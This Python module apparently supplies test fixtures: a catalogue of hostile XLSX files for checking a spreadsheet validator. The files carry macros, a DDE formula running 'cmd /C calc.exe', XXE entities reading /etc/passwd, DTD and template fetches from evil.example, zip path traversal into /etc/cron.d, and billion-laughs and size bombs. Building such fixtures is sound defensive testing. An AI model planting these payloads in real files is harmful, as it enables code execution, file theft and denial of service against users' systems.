"""A museum of files nobody should open: each function makes one, and HOSTILE lists them all by name."""

import functools
import io
import zipfile
import zlib
from collections.abc import Callable

HOSTILE: dict[str, Callable[[], bytes]] = {}

MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET_PART = "xl/worksheets/sheet1.xml"
OPEN, CLOSE = f'<worksheet xmlns="{NS}"><sheetData>', "</sheetData></worksheet>"
ROW = '<row r="1"><c r="A1"><v>1</v></c></row>'


def hostile(make: Callable[[], bytes]) -> Callable[[], bytes]:
    HOSTILE[make.__name__] = functools.cache(make)
    return make


def types(main: str = MAIN, more: str = "") -> str:
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>'
        f'<Override PartName="/{SHEET_PART}" ContentType="{SHEET}"/>{more}</Types>'
    )


def relations(*entries: tuple[str, str, str]) -> str:
    """Type, target and further attributes."""
    rows = (
        f'<Relationship Id="rId{number}" Type="{REL}/{kind}" Target="{target}" {more}/>'
        for number, (kind, target, more) in enumerate(entries, start=1)
    )
    return f'<Relationships xmlns="{PACKAGE}">{"".join(rows)}</Relationships>'


def parts(sheet: str = OPEN + ROW + CLOSE, **changed: str | bytes) -> dict[str, str | bytes]:
    """An honest little workbook, part by part."""
    return {
        "[Content_Types].xml": types(),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": f'<workbook xmlns="{NS}" xmlns:r="{REL}"><sheets>'
        '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml", "")),
        SHEET_PART: sheet,
        **changed,
    }


def pack(members: dict[str, str | bytes], level: int = 6) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def with_part(name: str, content: str | bytes = "<x/>") -> bytes:
    return pack(parts() | {name: content})


def with_sheet(rows: str) -> bytes:
    return pack(parts(OPEN + rows + CLOSE))


def with_strings(strings: str, sheet: str) -> bytes:
    members = parts(sheet)
    members["xl/_rels/workbook.xml.rels"] = relations(
        ("worksheet", "worksheets/sheet1.xml", ""), ("sharedStrings", "sharedStrings.xml", "")
    )
    return pack(members | {"xl/sharedStrings.xml": f'<sst xmlns="{NS}">{strings}</sst>'})


# Macros, and what reaches out of the file.


@hostile
def macro_enabled() -> bytes:
    main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return pack(parts() | {"[Content_Types].xml": types(main), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


@hostile
def macros_behind_an_innocent_type() -> bytes:
    return with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")


@hostile
def macros_under_another_path() -> bytes:
    more = '<Override PartName="/xl/harmless.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    return pack(parts() | {"[Content_Types].xml": types(more=more), "xl/harmless.bin": b"x"})


@hostile
def excel4_macro_sheet() -> bytes:
    return with_part("xl/macrosheets/sheet1.xml", '<xm:macrosheet xmlns:xm="x"/>')


@hostile
def ribbon_callbacks() -> bytes:
    return with_part("customUI/customUI14.xml")


@hostile
def external_link() -> bytes:
    return with_part("xl/externalLinks/externalLink1.xml")


@hostile
def external_references_in_the_workbook() -> bytes:
    workbook = parts()["xl/workbook.xml"].replace(
        "</sheets>", '</sheets><externalReferences><externalReference r:id="rId9"/></externalReferences>'
    )
    return pack(parts() | {"xl/workbook.xml": workbook})


@hostile
def external_relation_of_a_sheet() -> bytes:
    rels = relations(("image", "file:////evil/share/a.png", 'TargetMode="External"'))
    return with_part("xl/worksheets/_rels/sheet1.xml.rels", rels)


@hostile
def attached_template() -> bytes:
    return with_part("xl/_rels/other.xml.rels", relations(("attachedTemplate", "http://evil.example/t.xltm", "")))


@hostile
def dde_in_a_formula() -> bytes:
    return with_sheet('<row r="1"><c r="A1"><f>cmd|\'/C calc.exe\'!A0</f><v>0</v></c></row>')


@hostile
def database_connection() -> bytes:
    return with_part("xl/connections.xml", '<connections><connection id="1" type="5"/></connections>')


@hostile
def query_table() -> bytes:
    return with_part("xl/queryTables/queryTable1.xml")


@hostile
def query_by_relation() -> bytes:
    return with_part("xl/worksheets/_rels/sheet1.xml.rels", relations(("queryTable", "../q/innocent.xml", "")))


# Things inside that are not a table.


@hostile
def embedded_package() -> bytes:
    return with_part("xl/embeddings/Microsoft_Word_Document1.docx", b"PK\x03\x04")


@hostile
def ole_object_by_relation() -> bytes:
    return with_part("xl/worksheets/_rels/sheet1.xml.rels", relations(("oleObject", "../media/image1.bin", "")))


@hostile
def activex_control() -> bytes:
    return with_part("xl/activeX/activeX1.xml")


@hostile
def web_extension() -> bytes:
    return with_part("xl/webextensions/webextension1.xml")


# Paths and names.


@hostile
def path_upwards() -> bytes:
    return with_part("../../etc/cron.d/evil", "x")


@hostile
def path_absolute() -> bytes:
    return with_part("/etc/passwd", "x")


@hostile
def path_with_backslash() -> bytes:
    return with_part("xl\\..\\evil.xml")


@hostile
def path_with_drive() -> bytes:
    return with_part("C:/evil.xml")


@hostile
def path_with_nul() -> bytes:
    return with_part("xl/aaaa.xml").replace(b"xl/aaaa.xml", b"xl/a\0aa.xml")


@hostile
def duplicate_names() -> bytes:
    return with_part("xl/worksheets/sheet2.xml").replace(b"worksheets/sheet2.xml", b"worksheets/sheet1.xml")


@hostile
def duplicate_names_but_for_case() -> bytes:
    return with_part("XL/Worksheets/Sheet1.XML")


@hostile
def relation_out_of_the_container() -> bytes:
    rels = relations(("worksheet", "../../../../etc/passwd", ""))
    return pack(parts() | {"xl/_rels/workbook.xml.rels": rels})


# XML.

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)


@hostile
def billion_laughs_in_a_sheet() -> bytes:
    return pack(parts(LAUGHS + OPEN + '<row r="1"><c r="A1" t="str"><v>&j;</v></c></row>' + CLOSE))


@hostile
def billion_laughs_in_shared_strings() -> bytes:
    return pack(parts() | {"xl/sharedStrings.xml": LAUGHS + f'<sst xmlns="{NS}"><si><t>&j;</t></si></sst>'})


@hostile
def entity_that_reads_a_file() -> bytes:
    doctype = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return pack(parts() | {"xl/workbook.xml": doctype + parts()["xl/workbook.xml"]})


@hostile
def doctype_in_content_types() -> bytes:
    return pack(parts() | {"[Content_Types].xml": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">' + types()})


@hostile
def doctype_in_a_part_nobody_reads() -> bytes:
    return with_part("docProps/custom.xml", "<!DOCTYPE x><x/>")


@hostile
def doctype_in_utf16() -> bytes:
    return pack(parts((LAUGHS + OPEN + ROW + CLOSE).encode("utf-16")))


@hostile
def doctype_in_utf16_without_mark() -> bytes:
    return with_part("xl/styles.xml", "<!DOCTYPE x><styleSheet/>".encode("utf-16-be"))


@hostile
def declared_in_another_encoding() -> bytes:
    return pack(parts('<?xml version="1.0" encoding="UTF-7"?>' + OPEN + ROW + CLOSE))


@hostile
def a_million_open_tags() -> bytes:
    return with_sheet("<a>" * 300_000)


@hostile
def a_million_open_tags_with_ballast() -> bytes:
    """Attributes that differ keep the packing below what gives a bomb away."""
    return with_sheet("".join(f'<a b="{number}">' for number in range(1_000_000)))


@hostile
def one_text_of_ten_megabytes() -> bytes:
    text = "".join(f"{number:08x}" for number in range(1_250_000))
    return with_sheet(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>')


@hostile
def broken_xml() -> bytes:
    return with_sheet('<row r="1"><c r="A1"><v>1</c></row')


# Rectangles that nobody can lay out, and counts without end.


@hostile
def a_cell_in_the_last_corner() -> bytes:
    return with_sheet(ROW + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@hostile
def a_far_cell_within_the_rows_allowed() -> bytes:
    return with_sheet(ROW + '<row r="150000"><c r="ZZ150000"><v>1</v></c></row>')


@hostile
def many_sheets_that_are_middling_large() -> bytes:
    far = OPEN + ROW + '<row r="3900"><c r="ALL3900"><v>1</v></c></row>' + CLOSE
    count = 150
    members = {f"xl/worksheets/sheet{n}.xml": far for n in range(1, count + 1)}
    sheets = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, count + 1))
    members["xl/workbook.xml"] = f'<workbook xmlns="{NS}" xmlns:r="{REL}"><sheets>{sheets}</sheets></workbook>'
    members["xl/_rels/workbook.xml.rels"] = relations(
        *(("worksheet", f"worksheets/sheet{n}.xml", "") for n in range(1, count + 1))
    )
    return pack(parts() | members)


@hostile
def a_far_cell_written_in_an_unusual_way() -> bytes:
    return with_sheet(ROW + "<row r='1000000'><y:c xmlns:y='x' s='1'  r = 'ZZ1000000' ><v>1</v></y:c></row>")


@hostile
def a_far_cell_behind_a_bracket() -> bytes:
    return with_sheet(ROW + '<row><c s=">" r="XFD1048576"><v>1</v></c></row>')


@hostile
def a_cell_beyond_every_sheet() -> bytes:
    return with_sheet(ROW + '<row r="1"><c r="ZZZZZZ99999999"><v>1</v></c></row>')


@hostile
def a_million_columns() -> bytes:
    wide = "".join(f"<c><v>{number}</v></c>" for number in range(1_000_000))
    return with_sheet(f"<row>{wide}</row>" + "<row><c><v>1</v></c></row>" * 9)


@hostile
def rows_without_end() -> bytes:
    return with_sheet("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 250_000)))


@hostile
def cells_without_end() -> bytes:
    row = "".join(f'<c r="{chr(65 + n)}#"><v>1</v></c>' for n in range(26))
    return with_sheet("".join(f'<row r="{n}">{row.replace("#", str(n))}</row>' for n in range(1, 80_000)))


@hostile
def strings_without_end() -> bytes:
    return with_strings("".join(f"<si><t>{n}</t></si>" for n in range(2_100_000)), OPEN + ROW + CLOSE)


@hostile
def one_long_string_told_a_hundred_thousand_times() -> bytes:
    text = zlib.compress(b"x").hex() * 1_500
    row = '<row r="{0}"><c r="A{0}" t="s"><v>0</v></c></row>'
    return with_strings(f"<si><t>{text}</t></si>", OPEN + "".join(map(row.format, range(1, 100_000))) + CLOSE)


@hostile
def one_sheet_told_a_thousand_times() -> bytes:
    sheets = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 1_000))
    return pack(
        parts() | {"xl/workbook.xml": f'<workbook xmlns="{NS}" xmlns:r="{REL}"><sheets>{sheets}</sheets></workbook>'}
    )


@hostile
def two_sheets_in_one_part() -> bytes:
    sheets = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 3))
    return pack(
        parts() | {"xl/workbook.xml": f'<workbook xmlns="{NS}" xmlns:r="{REL}"><sheets>{sheets}</sheets></workbook>'}
    )


@hostile
def no_sheets() -> bytes:
    return pack(parts() | {"xl/workbook.xml": f'<workbook xmlns="{NS}"><sheets/></workbook>'})


@hostile
def a_sheet_that_is_not_there() -> bytes:
    members = parts()
    del members[SHEET_PART]
    return pack(members)
